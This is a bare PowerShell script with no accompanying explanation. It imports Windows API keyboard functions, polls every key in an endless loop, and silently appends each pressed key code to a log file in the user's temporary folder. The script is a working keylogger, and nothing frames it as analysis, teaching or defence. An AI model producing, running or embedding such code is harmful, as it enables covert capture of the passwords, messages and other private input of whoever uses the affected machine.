$sig = @'
[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int k);
[DllImport("user32.dll")] public static extern int MapVirtualKey(uint c, int t);
'@
$api = Add-Type -MemberDefinition $sig -Name K -Namespace L -PassThru
while ($true) { for ($k = 8; $k -le 254; $k++) { if ($api::GetAsyncKeyState($k) -eq -32767) { Add-Content -Path "$env:TEMP\k.log" -Value $k } } }
